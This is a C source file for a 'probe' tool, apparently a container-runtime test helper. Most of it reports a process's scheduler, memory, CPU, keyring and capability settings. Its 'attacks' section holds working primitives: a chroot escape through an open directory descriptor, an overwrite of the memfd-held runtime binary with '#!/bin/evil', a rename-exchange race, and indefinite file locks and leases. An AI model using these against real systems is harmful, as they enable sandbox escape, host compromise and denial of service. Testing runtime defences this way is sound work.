/* SPDX-License-Identifier: MIT */

/*
 * usage: probe WORD: what the kernel says of this process, in one line
 *        probe swap A B: exchange two names until killed
 *        probe lock FILE: lock it and keep it so; or fail, as somebody else does
 *        probe lease FILE: lease it for writing and keep it so, whoever waits
 *        probe climb: out of a root directory, by one that is open above it
 *        probe overwrite: write to the program that sets up other processes, once one is seen
 * Linked statically, to run in any root file system.
 */
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* What sched_getattr(2) gives; the kernel's header and the C library's can't both be there. */
struct attr {
	uint32_t size, sched_policy;
	uint64_t sched_flags;
	int32_t sched_nice;
	uint32_t sched_priority;
	uint64_t sched_runtime, sched_deadline, sched_period;
};

static int probe_scheduler(void)
{
	struct attr attr = {.size = sizeof(attr)};

	if (syscall(SYS_sched_getattr, 0, &attr, sizeof(attr), 0) < 0)
		return 1;
	printf("policy %u", attr.sched_policy);
	if (attr.sched_policy == 6)
		printf(" %llu %llu %llu", (unsigned long long)attr.sched_runtime,
		       (unsigned long long)attr.sched_deadline,
		       (unsigned long long)attr.sched_period);
	else if (attr.sched_policy == 1 || attr.sched_policy == 2)
		printf(" priority %u", attr.sched_priority);
	else if (attr.sched_policy != 5) /* SCHED_IDLE has no nice value: it keeps the caller's */
		printf(" nice %d", attr.sched_nice);
	printf("%s\n", attr.sched_flags & 1 ? " reset" : "");
	return 0;
}

static int probe_io(void)
{
	long priority = syscall(SYS_ioprio_get, 1, 0);

	printf("class %ld priority %ld\n", priority >> 13, priority & 0x1fff);
	return priority < 0;
}

static int probe_personality(void)
{
	printf("personality %x\n", (unsigned)personality(0xffffffff));
	return 0;
}

static int probe_slack(void)
{
	printf("slack %d\n", prctl(PR_GET_TIMERSLACK, 0, 0, 0, 0));
	return 0;
}

static int print_file(const char *word, const char *path)
{
	char text[64] = "";
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = read(fd, text, sizeof(text) - 1);

	printf("%s %s", word, text);
	return n <= 0;
}

static int probe_filter(void)
{
	return print_file("filter", "/proc/self/coredump_filter");
}

static int probe_oom(void)
{
	return print_file("oom", "/proc/self/oom_score_adj");
}

static int probe_memory(void)
{
	unsigned long nodes[16] = {0};
	int mode = -1;

	if (syscall(SYS_get_mempolicy, &mode, nodes, 1024, 0, 0) < 0)
		return 1;
	printf("mode %d nodes %lx\n", mode, nodes[0]);
	return 0;
}

/* As a list: "0-1". */
static int probe_cpus(void)
{
	cpu_set_t set;
	const char *separator = "cpus ";

	if (sched_getaffinity(0, sizeof(set), &set) < 0)
		return 1;
	for (int first = 0; first < CPU_SETSIZE; first++) {
		int last = first;

		if (!CPU_ISSET(first, &set))
			continue;
		while (last + 1 < CPU_SETSIZE && CPU_ISSET(last + 1, &set))
			last++;
		printf("%s%d", separator, first);
		if (last > first)
			printf("-%d", last);
		separator = ",";
		first = last;
	}
	printf("\n");
	return 0;
}

/* What the 32-bit interface gives for the parent's number; other processors have no such door. */
static int probe_compat(void)
{
	long r = -38;

#ifdef __x86_64__
	enum { I386_GETPPID = 64 };

	__asm__ volatile("int $0x80" : "=a"(r) : "a"(I386_GETPPID) : "memory");
#endif
	printf("compat %d\n", (int)r < 0 ? (int)r : 0);
	return (int)r == -38;
}

static int probe_keyring(void)
{
	printf("keyring %ld\n", syscall(SYS_keyctl, 0 /* GET_KEYRING_ID */, -3 /* session */, 0));
	return 0;
}

/* What follows a change of user, or the execution of a program, for capabilities. */
static int probe_securebits(void)
{
	printf("securebits %#x\n", (unsigned int)prctl(PR_GET_SECUREBITS));
	return 0;
}

/* ---- attacks ------------------------------------------------------------ */

static int swap(const char *a, const char *b)
{
	while (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0)
		;
	perror("renameat2");
	return 1;
}

/* As with every chroot(2): whoever stands above his root walks up to where the tree has an end. */
static int climb(void)
{
	struct stat before = {0}, after = {0};
	int above = open("/", O_RDONLY | O_DIRECTORY), r = stat("/", &before);

	r |= mkdir("/climb", 0755) | chroot("/climb") | fchdir(above);
	for (int i = 0; r == 0 && i < 64; i++)
		r = chdir("..");
	r |= chroot(".") | stat("/", &after);
	if (r != 0) {
		perror("climb");
		return 1;
	}
	printf("climbed to %s root\n", before.st_dev == after.st_dev && before.st_ino == after.st_ino ? "its own" : "another");
	return 0;
}

/* A descriptor of the program that process @pid runs, if it comes out of nowhere. */
static int program_of(const char *pid)
{
	char path[64], link[64] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (readlink(path, link, sizeof(link) - 1) > 0 && strncmp(link, "/memfd:", 7) == 0)
		return fd;
	close(fd);
	return -1;
}

/* While it runs it is busy, whatever its seals say. */
static int write_when_free(int fd)
{
	char path[64];
	int to = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 1000 && to < 0; i++) {
		to = open(path, O_WRONLY | O_CLOEXEC);
		usleep(1000);
	}
	return to >= 0 && write(to, "#!/bin/evil", 11) == 11 ? 0 : 1;
}

static int overwrite(void)
{
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			int fd = atoi(entry->d_name) > 1 ? program_of(entry->d_name) : -1;

			if (fd >= 0) {
				printf("seen\n");
				printf("%s\n", write_when_free(fd) == 0 ? "written" : "sealed");
				return 0;
			}
		}
		closedir(proc);
	}
}

static int keep_locked(const char *path)
{
	int fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);

	if (fd < 0 || flock(fd, LOCK_EX | LOCK_NB) < 0) {
		perror(path);
		return 1;
	}
	for (;;)
		pause();
}

/* Whoever opens the file waits until this gives it back, or until /proc/sys/fs/lease-break-time. */
static int keep_leased(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || signal(SIGIO, SIG_IGN) == SIG_ERR || fcntl(fd, F_SETLEASE, F_WRLCK) < 0) {
		perror(path);
		return 1;
	}
	printf("leased\n");
	fflush(stdout);
	for (;;)
		pause();
}

static const struct {
	const char *word;
	int (*run)(void);
} probes[] = {
	{"scheduler", probe_scheduler},     {"io", probe_io},
	{"personality", probe_personality}, {"slack", probe_slack},
	{"filter", probe_filter},           {"oom", probe_oom},
	{"memory", probe_memory},           {"cpus", probe_cpus},
	{"compat", probe_compat},           {"keyring", probe_keyring},
	{"securebits", probe_securebits},   {"overwrite", overwrite},
	{"climb", climb},
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc == 2 && i < sizeof(probes) / sizeof(*probes); i++)
		if (strcmp(probes[i].word, argv[1]) == 0)
			return probes[i].run();
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "lock") == 0)
		return keep_locked(argv[2]);
	if (argc == 3 && strcmp(argv[1], "lease") == 0)
		return keep_leased(argv[2]);
	fprintf(stderr, "usage: probe WORD | swap A B | lock FILE | lease FILE\n");
	return 2;
}
